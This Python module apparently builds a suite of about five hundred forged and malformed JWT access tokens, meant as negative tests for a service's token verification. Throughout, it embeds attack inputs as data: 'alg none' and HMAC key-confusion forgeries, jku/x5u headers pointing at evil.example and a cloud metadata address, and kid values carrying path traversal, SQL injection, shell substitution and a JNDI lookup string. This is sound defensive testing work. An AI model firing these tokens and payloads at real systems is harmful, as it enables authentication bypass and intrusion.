"""Five hundred tokens that nobody may come in with: as RFC 8725 warns of them, and as others have been broken by them.

Some are signed with our own key: then it is their form alone that must betray them.
"""

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Any, Literal

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed448, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

Door = Literal["api", "mcp", "agents", "admin"]
DOORS: tuple[Door, ...] = ("api", "mcp", "agents", "admin")
ORDER = 2**252 + 27742317777372353535851937790883648493
"""Of the group of Ed25519: a signature's second half may be written as S or, wrongly, as S + ORDER."""


@dataclass(frozen=True)
class Attack:
    """One token, and the doors that must not let it in."""

    kind: str
    token: str
    doors: tuple[Door, ...] = DOORS


def part(value: Any) -> str:
    """base64url of JSON, or of bytes as they are."""
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


class Forger:
    """Has our key, its id, and a set of claims that is good with it."""

    def __init__(self, kid: str, private: Ed25519PrivateKey, claims: dict[str, Any]) -> None:
        self.kid, self._private, self.claims = kid, private, claims
        self._attacker = Ed25519PrivateKey.generate()
        self.header = {"typ": "at+jwt", "alg": "EdDSA", "kid": kid}
        self.now: int = claims["iat"]

    def signed(self, header: Any, claims: Any = None, *, ours: bool = True) -> str:
        """Any header and claims, signed with our key or with the attacker's."""
        text = f"{part(header)}.{part(self.claims if claims is None else claims)}"
        key = self._private if ours else self._attacker
        return f"{text}.{part(key.sign(text.encode()))}"

    def good(self) -> str:
        """What all of these only look like."""
        return self.signed(self.header, self.claims | {"jti": secrets.token_urlsafe(16)})

    def all(self) -> list[Attack]:
        """Every attack that needs nothing but a key."""
        found: list[Attack] = []
        for kind in (
            self._algorithms,
            self._headers,
            self._kids,
            self._types,
            self._claims,
            self._issuers,
            self._times,
            self._signatures,
            self._shapes,
            self._unicode,
            self._json,
        ):
            found += [Attack(kind.__name__.strip("_"), token) for token in kind()]
        return found

    def _algorithms(self) -> Iterator[str]:
        names = (
            "none",
            "None",
            "NONE",
            "nOnE",
            "none ",
            "",
            None,
            0,
            [],
            ["EdDSA"],
            {"alg": "EdDSA"},
            "EDDSA",
            "eddsa",
            "Ed25519",
            "EdDSA\0",
            "HS256",
            "HS384",
            "HS512",
            "RS256",
            "ES256",
            "PS256",
        )
        for name in names:
            text = f"{part(self.header | {'alg': name})}.{part(self.claims)}"
            yield f"{text}."
            yield self.signed(self.header | {"alg": name})
        public = self._private.public_key()
        raw = public.public_bytes(Encoding.Raw, PublicFormat.Raw)
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        jwk = json.dumps({"crv": "Ed25519", "kty": "OKP", "x": part(raw)}).encode()
        for secret, (name, digest) in product(
            (raw, pem, pem.strip(), der, jwk, part(raw).encode(), raw.hex().encode(), b"", b"\0", self.kid.encode()),
            (
                ("HS256", hashlib.sha256),
                ("HS384", hashlib.sha384),
                ("HS512", hashlib.sha512),
                ("EdDSA", hashlib.sha512),
            ),
        ):
            text = f"{part(self.header | {'alg': name})}.{part(self.claims)}"
            yield f"{text}.{part(hmac.digest(secret, text.encode(), digest))}"
        rsa_key = rsa.generate_private_key(65537, 2048)
        curve = ec.generate_private_key(ec.SECP256R1())
        for key, name in (
            (rsa_key, "RS256"),
            (rsa_key, "PS256"),
            (rsa_key, "RS512"),
            (curve, "ES256"),
            (ec.generate_private_key(ec.SECP384R1()), "ES384"),
            (ed448.Ed448PrivateKey.generate(), "EdDSA"),
        ):
            yield jwt.encode(self.claims, key, name, {"typ": "at+jwt", "kid": self.kid})

    def _headers(self) -> Iterator[str]:
        jwk = {
            "kty": "OKP",
            "crv": "Ed25519",
            "kid": self.kid,
            "alg": "EdDSA",
            "x": part(self._attacker.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)),
        }
        urls = (
            "https://evil.example/jwks.json",
            "http://169.254.169.254/latest",
            "file:///etc/passwd",
            "",
            None,
            "https://nexus.example@evil.example/.well-known/jwks.json",
        )
        for name, url in product(("jku", "x5u"), urls):
            yield self.signed(self.header | {name: url}, ours=False)
            yield self.signed(self.header | {name: url})
        for extra in (
            {"jwk": jwk},
            {"jwk": {}},
            {"jwk": None},
            {"x5c": []},
            {"x5c": ["AA=="]},
            {"x5c": "AA=="},
            {"crit": []},
            {"crit": ["exp"]},
            {"crit": ["b64"], "b64": False},
            {"crit": "alg"},
            {"crit": None},
            {"b64": False},
            {"b64": True},
            {"zip": "DEF"},
            {"zip": None},
        ):
            yield self.signed(self.header | extra, ours=False)
            yield self.signed(self.header | extra)
        for extra in (
            {"x5t": "AA"},
            {"x5t#S256": "AA"},
            {"cty": "JWT"},
            {"enc": "A256GCM"},
            {"epk": jwk},
            {"p2c": 10**9},
        ):
            yield self.signed(self.header | extra, ours=False)

    def _kids(self) -> Iterator[str]:
        kids: tuple[Any, ...] = (
            None,
            "",
            " ",
            0,
            1,
            True,
            [],
            {},
            [self.kid],
            {"kid": self.kid},
            f" {self.kid}",
            f"{self.kid} ",
            f"{self.kid}\0",
            f"{self.kid}\n",
            f"{self.kid}/",
            f"./{self.kid}",
            f"{self.kid}#",
            self.kid * 2,
            self.kid.swapcase(),
            self.kid[:-1],
            "../../../../dev/null",
            "/dev/null",
            "/proc/self/environ",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "https://evil.example/key",
            "//evil.example/key",
            "' OR '1'='1",
            "x' UNION SELECT 'aaaa' --",
            "'; DROP TABLE signing_keys; --",
            '" OR ""="',
            "1 OR 1=1",
            "$(id)",
            "`id`",
            "; id",
            "| id",
            "%00",
            "%2e%2e%2f",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "\u202e",
            "\uff0e\uff0e/",
            "\ud83d\ude00",
            "k" * 64,
            "k" * 65,
            "k" * 2000,
            "*",
            "%",
            "_",
            "\\x00",
            "null",
            "undefined",
            "NaN",
            "-1",
            "0x0",
        )
        for kid in kids:
            yield self.signed(self.header | {"kid": kid}, ours=False)
            yield self.signed(self.header | {"kid": kid})
        without = {name: value for name, value in self.header.items() if name != "kid"}
        yield self.signed(without)
        yield self.signed(self.header, ours=False)

    def _types(self) -> Iterator[str]:
        for typ in (
            "JWT",
            "jwt",
            "at+JWT",
            "AT+JWT",
            "application/at+jwt",
            "id+jwt",
            "dpop+jwt",
            "logout+jwt",
            "JOSE",
            "JOSE+JSON",
            "secevent+jwt",
            "",
            " at+jwt",
            "at+jwt ",
            "at jwt",
            None,
            1,
            ["at+jwt"],
            {},
        ):
            yield self.signed(self.header | {"typ": typ})
        yield self.signed({name: value for name, value in self.header.items() if name != "typ"})

    def _claims(self) -> Iterator[str]:
        for name in self.claims:
            if name != "agent_id":
                yield self.signed(self.header, {key: value for key, value in self.claims.items() if key != name})
            for value in (None, "", [], {}, True, 0.5, -1, [self.claims[name]], {"a": self.claims[name]}):
                if (name, value) in (("scope", ""), ("agent_id", None)):
                    continue  # no scope at all is a token that opens nothing; it is good all the same
                yield self.signed(self.header, self.claims | {name: value})
        for more in (
            {"client_id": "adm_other"},
            {"sub": "adm_other"},
            {"act": {"sub": "adm_other"}},
            {"act": "x"},
            {"act": []},
            {"act": {}},
            {"act": {"sub": None}},
            {"tenant_id": "*"},
            {"tenant_id": "' OR 1=1"},
            {"tenant_id": "00000000-0000-0000-0000-000000000000"},
            {"scope": ["admin:write"]},
            {"jti": ["x"]},
            {"client_id": "nobody", "sub": "nobody"},
        ):
            yield self.signed(self.header, self.claims | more)

    def _issuers(self) -> Iterator[str]:
        issuer = self.claims["iss"]
        for other in (
            f"{issuer}/",
            f"{issuer}.evil.example",
            f"{issuer}#",
            f"{issuer} ",
            issuer.upper(),
            "evil",
            "https://evil.example",
            [issuer],
            [issuer, "https://evil.example"],
            {issuer: 1},
        ):
            yield self.signed(self.header, self.claims | {"iss": other})
        for audience in (
            "nexus:",
            "nexus ",
            "NEXUS",
            "nexus/api",
            "observer",
            "*",
            ["nexus"],
            ["nexus", "observer"],
            ["nexus", "nexus:admin-socket"],
            {"nexus": 1},
            "nexus,nexus:admin-socket",
            0,
        ):
            yield self.signed(self.header, self.claims | {"aud": audience})

    def _times(self) -> Iterator[str]:
        now = self.now
        for change in (
            {"exp": now - 1},
            {"exp": now - 3600},
            {"exp": now - 10**9},
            {"exp": 0},
            {"exp": -1},
            {"exp": 10**12 * 10},
            {"exp": 10**30},
            {"exp": float(now + 900)},
            {"exp": str(now + 900)},
            {"exp": f"{now + 900}abc"},
            {"iat": now + 60},
            {"iat": now + 3600},
            {"iat": -1},
            {"iat": str(now)},
            {"iat": 2**63},
            {"nbf": now + 60},
            {"nbf": now + 10**6},
            {"nbf": str(now)},
            {"nbf": 2**70},
            {"nbf": None},
        ):
            yield self.signed(self.header, self.claims | change)

    def _signatures(self) -> Iterator[str]:
        text, _, signature = self.good().rpartition(".")
        raw = base64.urlsafe_b64decode(signature + "==")
        malleable = raw[:32] + ((int.from_bytes(raw[32:], "little") + ORDER) % 2**256).to_bytes(32, "little")
        yield f"{text}.{part(malleable)}"
        for other in (
            b"\0" * 64,
            b"\xff" * 64,
            raw[:32] + b"\0" * 32,
            b"\1" + b"\0" * 63,
            raw[32:] + raw[:32],
            raw[:63],
            raw + b"\0",
            raw * 2,
            b"",
            raw[::-1],
        ):
            yield f"{text}.{part(other)}"
        for bit in range(0, 512, 16):
            flipped = bytearray(raw)
            flipped[bit // 8] ^= 1 << bit % 8
            yield f"{text}.{part(bytes(flipped))}"
        unused = "BRhx"["AQgw".index(signature[-1])]
        for written in (
            signature + "=",
            signature + "==",
            signature[:-1] + unused,
            signature[:20] + "!" + signature[20:],
            signature[:20] + "\t" + signature[20:],
            signature.replace("-", "+").replace("_", "/") + "==",
            base64.b64encode(raw).decode(),
        ):
            yield f"{text}.{written}"

    def _shapes(self) -> Iterator[str]:
        good = self.good()
        head, body, signature = good.split(".")
        for cut in range(8, len(good) - 1, max(1, len(good) // 24)):
            yield good[:cut]
        yield from (
            f"{head}.{body}",
            f"{head}..{signature}",
            f".{body}.{signature}",
            f"{head}.{signature}.{body}",
            f"{good}.{signature}",
            f"{head}.{body}.{signature}.{body}.{signature}",
            f"{good},{good}",
            f"{good}{good}",
            f"{good};",
            f"Bearer {good}",
            good.replace(".", ".."),
            good.replace(".", ","),
            good[::-1],
            good.swapcase(),
            f"{part(self.header | {'alg': 'dir', 'enc': 'A256GCM'})}..AAAA.{part(good.encode())}.AAAA",
            self.signed(self.header | {"cty": "JWT"}, good.encode()),
            self.signed(self.header, part(good.encode()).encode()),
            json.dumps({"payload": body, "protected": head, "signature": signature}),
            json.dumps({"payload": body, "signatures": [{"protected": head, "signature": signature}]}),
            "null",
            "undefined",
            "true",
            "0",
            "...",
            "..",
            ".",
            "a.b.c",
            "e30.e30.e30",
            "x" * 100_000,
        )
        yield self.signed(self.header, self.claims | {"filler": "x" * 5000})

    def _unicode(self) -> Iterator[str]:
        good = self.good()
        place = len(good) // 2
        for odd in (
            "\u200b",
            "\ufeff",
            "\u202e",
            "\u00a0",
            "\u2024",
            "\uff21",
            "é",
            "\0",
            "\x7f",
            "\x1b[2J",
            "\U0001f600",
        ):
            yield good[:place] + odd + good[place:]
            yield good + odd
        yield good.replace(".", "\uff0e")
        yield good.translate({ord("e"): "\u0435"})

    def _json(self) -> Iterator[str]:
        head, claims = json.dumps(self.header), json.dumps(self.claims)
        for text in (
            '{"alg":"none",' + head[1:],
            head[:-1] + ',"alg":"EdDSA","alg":"none"}',
            f"{head}{head}",
            f"[{head}]",
            head[:-1] + ",}",
            head.replace('"', "'"),
            f"/**/{head}",
            "\ufeff" + head,
            head + "\0",
        ):
            yield self.signed(text.encode(), ours=False)
        for text in (
            '{"scope":"admin:write",' + claims[1:],
            claims[:-1] + ',"tenant_id":"x"}',
            claims[:-1] + ',"exp":NaN}',
            claims[:-1] + ',"iat":-Infinity}',
            claims[:-1] + ',"exp":' + "9" * 1500 + "}",
        ):
            yield self.signed(self.header, text.encode(), ours=False)
        for text in (
            claims[:-1] + ',"exp":1e999}',
            f"[{claims}]",
            f"{claims}x",
            "[" * 1400,
            '{"a":' * 280,
            "null",
            '""',
            "0",
            "",
        ):
            yield self.signed(self.header, text.encode())
